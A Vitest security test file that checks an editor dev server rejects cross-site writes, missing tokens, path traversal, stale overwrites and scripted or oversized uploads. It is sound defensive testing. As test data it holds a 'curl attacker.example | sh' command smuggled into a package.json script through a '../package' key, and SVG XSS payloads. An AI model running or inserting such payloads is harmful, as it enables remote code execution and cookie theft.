// @vitest-environment node
// The editor's dev server (npm run edit) writes only what its own page sends (#22): a page on another site, a
// request without the page's token, a language that is not one, an overwrite of a version nobody has seen and a
// file that is not a picture are all refused, and the files on disk stay as they were.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fingerprint } from '../editor/server/fingerprint.ts';
import { listPictures } from '../content/pictures/picture-files.ts';
import { type EditorDevServer, startEditorDevServer } from './helpers/editor-dev-server.ts';

let editor: EditorDevServer;
let token: string;
beforeAll(async () => {
  editor = await startEditorDevServer();
  token = await editor.token();
}, 60_000);
afterAll(() => editor?.close());

const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"/>';
const attacker = 'http://attacker.example';
const onDisk = () => readFileSync(editor.file, 'utf8');
/** A save of pages.json with its first page's title changed, over the version on disk now. */
function saveRequest(title = 'Written by someone else') {
  const text = onDisk();
  const data = JSON.parse(text);
  data.pages[0].title = title;
  return { data, baseHash: fingerprint(text) };
}
const post = (path: string, body: string | Buffer, headers: Record<string, string>) =>
  fetch(`${editor.base}/__editor/api/${path}`, {
    method: 'POST',
    body: typeof body === 'string' ? body : new Uint8Array(body),
    headers,
  });
/** What the editor page sends with each call. */
const asThePage = (type = 'application/json') => ({
  'Content-Type': type,
  Origin: editor.base,
  'X-Editor-Token': token,
});

describe("the editor's save", () => {
  it('refuses a cross-site text/plain post (a form on any site can send one), and pages.json stays as it was', async () => {
    const before = onDisk();
    const answer = await post('save', JSON.stringify(saveRequest()), {
      'Content-Type': 'text/plain',
      Origin: attacker,
    });
    expect(answer.status).toBe(403);
    expect(onDisk()).toBe(before);
    // Its own page's token and Origin do not make a text/plain body acceptable either.
    expect((await post('save', JSON.stringify(saveRequest()), asThePage('text/plain'))).status).toBe(415);
    expect(onDisk()).toBe(before);
  });

  it('refuses a request without the token the editor page holds, or with a wrong one', async () => {
    const before = onDisk();
    const { 'X-Editor-Token': _, ...withoutToken } = asThePage();
    expect((await post('save', JSON.stringify(saveRequest()), withoutToken)).status).toBe(403);
    const wrong = { ...asThePage(), 'X-Editor-Token': 'x'.repeat(token.length || 43) };
    expect((await post('save', JSON.stringify(saveRequest()), wrong)).status).toBe(403);
    expect(onDisk()).toBe(before);
    // Reading the content needs it too, and never answers another site.
    expect((await fetch(`${editor.base}/__editor/api/pages`)).status).toBe(403);
    const crossSite = { 'X-Editor-Token': token, Origin: attacker, 'Sec-Fetch-Site': 'cross-site' };
    expect((await fetch(`${editor.base}/__editor/api/pages`, { headers: crossSite })).status).toBe(403);
  });

  it('refuses a post without an Origin, or from another port of this computer, even with the token', async () => {
    const before = onDisk();
    const { Origin: _, ...withoutOrigin } = asThePage();
    expect((await post('save', JSON.stringify(saveRequest()), withoutOrigin)).status).toBe(403);
    // Another local dev server (npm run dev, say) is another origin: it may not write either.
    const otherPort = { ...asThePage(), Origin: 'http://127.0.0.1:5173' };
    expect((await post('save', JSON.stringify(saveRequest()), otherPort)).status).toBe(403);
    expect(onDisk()).toBe(before);
  });

  it('refuses a translations key that is not a language, such as ../package, and writes nothing', async () => {
    const sentinel = join(editor.dir, 'package.json');
    writeFileSync(sentinel, '{ "scripts": {} }\n');
    const repoPackage = readFileSync('package.json', 'utf8');
    const before = onDisk();
    const evil = {
      data: { scripts: { edit: 'curl attacker.example | sh' } },
      baseHash: fingerprint('{ "scripts": {} }\n'),
    };
    const answer = await post(
      'save',
      JSON.stringify({ ...saveRequest(), translations: { '../package': evil } }),
      asThePage(),
    );
    expect(answer.status).toBe(400);
    expect((await answer.json()).message).toMatch(/"\.\.\/package" is not a language/);
    expect(readFileSync(sentinel, 'utf8')).toBe('{ "scripts": {} }\n');
    expect(readFileSync('package.json', 'utf8')).toBe(repoPackage);
    expect(onDisk()).toBe(before);
  });

  it('replaces a version changed on disk only when told that version’s fingerprint', async () => {
    const loaded = saveRequest('Mine');
    const elsewhere = onDisk().replace('"version": 1', '"version": 1 ');
    writeFileSync(editor.file, elsewhere);
    const blind = await post('save', JSON.stringify({ ...loaded, overwrite: true }), asThePage());
    expect(blind.status).toBe(400);
    const stale = await post('save', JSON.stringify({ ...loaded, overwrite: { hash: loaded.baseHash } }), asThePage());
    expect(stale.status).toBe(409);
    expect(onDisk()).toBe(elsewhere);
    const seen = { ...loaded, overwrite: { hash: fingerprint(elsewhere) } };
    const saved = await post('save', JSON.stringify(seen), asThePage());
    expect(saved.status).toBe(200);
    expect(JSON.parse(onDisk()).pages[0].title).toBe('Mine');
    // Three saves, each checking the pages and their Hindi and Telugu as pages:check does (#26).
  }, 20_000);
});

describe("the editor's picture upload", () => {
  it('refuses a cross-site text/plain post and one without the token; no file lands in public/images', async () => {
    const before = listPictures(editor.publicDir);
    const crossSite = await post('pictures?name=evil.svg', svg, { 'Content-Type': 'text/plain', Origin: attacker });
    expect(crossSite.status).toBe(403);
    const { 'X-Editor-Token': _, ...withoutToken } = asThePage('image/svg+xml');
    expect((await post('pictures?name=evil.svg', svg, withoutToken)).status).toBe(403);
    expect((await post('pictures?name=evil.svg', svg, asThePage('text/plain'))).status).toBe(415);
    expect(listPictures(editor.publicDir)).toEqual(before);
  });

  it('refuses a file that is not the picture its name says, and an SVG with a script', async () => {
    const before = listPictures(editor.publicDir);
    const notPng = await post('pictures?name=photo.png', 'just text', asThePage('image/png'));
    expect(notPng.status).toBe(400);
    expect((await notPng.json()).message).toMatch(/not a PNG/);
    const scripted = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>';
    const script = await post('pictures?name=logo.svg', scripted, asThePage('image/svg+xml'));
    expect(script.status).toBe(400);
    expect((await script.json()).message).toMatch(/script/);
    const handler = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="4" height="4"/>';
    expect((await post('pictures?name=logo.svg', handler, asThePage('image/svg+xml'))).status).toBe(400);
    expect(listPictures(editor.publicDir)).toEqual(before);
    const png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#0a0' } })
      .png()
      .toBuffer();
    const real = await post('pictures?name=Real Photo.png', png, asThePage('image/png'));
    expect(real.status).toBe(201);
    expect(existsSync(join(editor.publicDir, 'images/real-photo.png'))).toBe(true);
  });

  it('refuses a picture larger than 20 MB with a message saying so, and keeps none of it', async () => {
    const before = listPictures(editor.publicDir);
    const answer = await post('pictures?name=huge.png', Buffer.alloc(20 * 1024 * 1024 + 1), asThePage('image/png'));
    expect(answer.status).toBe(413);
    expect((await answer.json()).message).toMatch(/larger than 20 MB; make the picture smaller first/);
    expect(listPictures(editor.publicDir)).toEqual(before);
  });

  it('answers a too-long picture name without an absolute path', async () => {
    const answer = await post(`pictures?name=${'a'.repeat(300)}.svg`, svg, asThePage('image/svg+xml'));
    const text = await answer.text();
    expect(answer.status).toBeLessThan(500);
    expect(text).not.toContain(editor.dir);
    expect(text).not.toMatch(/"\/(tmp|work|home|root)\//);
  });
});
